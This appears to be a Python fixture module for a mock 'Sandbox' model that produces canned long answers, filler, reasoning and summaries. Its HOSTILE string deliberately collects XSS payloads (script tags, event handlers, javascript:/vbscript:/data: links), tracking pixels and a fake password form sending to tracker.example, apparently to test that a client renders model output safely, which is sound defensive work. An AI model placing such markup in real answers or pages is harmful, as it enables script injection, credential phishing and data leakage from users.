"""Texts that do not depend on what was found: the long answer, the hostile one, reasoning."""

from itertools import cycle, islice

LONG_WORDS = 2000

HOSTILE = """\
Here is your answer. <script>window.leafHacked = true; document.title = "hacked"</script>

<img src="x" onerror="window.leafHacked = true">
<img src="https://tracker.example/pixel.png?secret=1" alt="tracker">

![A remote image](https://tracker.example/pixel.gif?answer=42)

[Click here](javascript:window.leafHacked=true) or [here](JaVaScRiPt&#58;window.leafHacked=true) or \
[here](data:text/html;base64,PHNjcmlwdD53aW5kb3cubGVhZkhhY2tlZD10cnVlPC9zY3JpcHQ+) or \
<a href="vbscript:msgbox(1)" onclick="window.leafHacked = true">here</a>.

<iframe src="https://tracker.example/frame"></iframe>
<form action="https://tracker.example/collect"><input name="password"><button>Sign in again</button></form>
<style>body { display: none }</style>
<svg onload="window.leafHacked = true"></svg>
<details open ontoggle="window.leafHacked = true"><summary>More</summary></details>

> <b onmouseover="window.leafHacked = true">A quotation with HTML</b>

```html
<script>window.leafHacked = true</script>
```

| Column | <script>window.leafHacked = true</script> |
| --- | --- |
| `<b>` | [link](javascript:alert(1)) |

The end of the hostile answer.
"""

_OPENING = """\
# A long answer

This text has two thousand words. The Sandbox model wrote it without reading anything, so that a long answer can be \
watched while it arrives.

"""

_SPECIAL = (
    """\
- a list keeps short facts apart,
- each entry stands on a line of its own,
- and **bold words** or *slanted ones* may stand within.

""",
    """\
| Quarter | Revenue | Costs |
| --- | ---: | ---: |
| First | 120,400 | 98,200 |
| Second | 131,900 | 101,750 |
| Third | 127,300 | 99,480 |

""",
    """\
```python
def total(rows: list[dict[str, int]]) -> int:
    \"\"\"The sum of one column.\"\"\"
    return sum(row["revenue"] for row in rows)
```

""",
    """\
1. Read the question.
2. Look for the files.
3. Quote what they say, with a [link](https://example.com/) to the source.

""",
    "> A quotation stands apart from the text around it, so that a reader sees at once whose words they are.\n\n",
)
_SUBJECTS = (
    "The report", "Every folder", "A careful reader", "The second chapter", "One small table", "The older draft",
    "Our archive", "The signed copy", "A short note", "The spreadsheet", "This paragraph",
)  # fmt: skip
_VERBS = (
    "describes", "leaves open", "repeats", "explains", "compares", "collects", "questions", "confirms", "shortens",
    "lists", "illustrates", "follows", "predicts",
)  # fmt: skip
_OBJECTS = (
    "what the team agreed on", "the numbers of the last quarter", "how the work was divided", "a plan for the spring",
    "the reasons for the delay", "which offers were compared", "the costs of the move",
)  # fmt: skip
_ENDINGS = (
    "and names its sources.", "although nobody had asked.", "in plain words.", "before the summary begins.",
    "with two examples.",
)  # fmt: skip


def _sentences() -> "cycle[str]":
    # The four lists have lengths without a common divisor, so a sentence comes back only after 5,005 others.
    parts = (cycle(_SUBJECTS), cycle(_VERBS), cycle(_OBJECTS), cycle(_ENDINGS))
    return cycle(islice((" ".join(words) for words in zip(*parts, strict=False)), 5005))


def _paragraph(sentences: "cycle[str]", count: int) -> str:
    return " ".join(islice(sentences, count)) + "\n\n"


def long_answer(words: int = LONG_WORDS) -> str:
    """Varied Markdown of exactly this many words: headings, lists, a table, a code block.

    Args:
        words: How many, counted as `len(text.split())`; at least 50.
    """
    sentences, special = _sentences(), cycle(_SPECIAL)
    text, number = _OPENING, 0
    while True:
        number += 1
        section = f"## Section {number}\n\n" + _paragraph(sentences, 6) + next(special) + _paragraph(sentences, 4)
        if len((text + section).split()) > words - 12:
            break
        text += section
    missing = words - len(text.split()) - 4
    filler = [word for sentence in islice(sentences, missing) for word in sentence.split()][:missing]
    return text + " ".join(filler).rstrip(".,") + ".\n\nThat was all, truly."


def lengthened(text: str, words: int) -> str:
    """The text, and filling after it until there are this many words."""
    missing = words - len(text.split())
    if missing <= 0:
        return text
    opening = "\n\n---\n\nThis model is slow on purpose; what follows only fills the time.\n\n"
    sentences = _sentences()
    filling = ""
    while len(filling.split()) < missing:
        filling += _paragraph(sentences, 5)
    return text + opening + filling.rstrip()


def reasoning(question: str, calls: list[str]) -> str:
    """What `sandbox-reasoning` thinks before it acts."""
    plan = f"I need to call {' and '.join(dict.fromkeys(calls))}." if calls else "I have what I need, so I can answer."
    shown = " ".join(question.split()[:20])
    return f"The user asks: {shown}\n\nI only quote, so I look for the words of the question. {plan}"


SUMMARY_LINES = 60


def is_to_summarise(instructions: str) -> bool:
    """Whether the instructions ask for a summary and nothing else."""
    return instructions.lstrip().startswith("Summarise the conversation")


def summary(transcript: str) -> str:
    """A summary of a conversation as a small model would write it: what was asked, and how each answer begins."""
    lines = [line.strip() for line in transcript.splitlines() if line.startswith(("User:", "Assistant:", "- "))]
    return "\n".join(f"- {line.removeprefix('- ')[:160]}" for line in lines[-SUMMARY_LINES:]) or "Nothing was said."
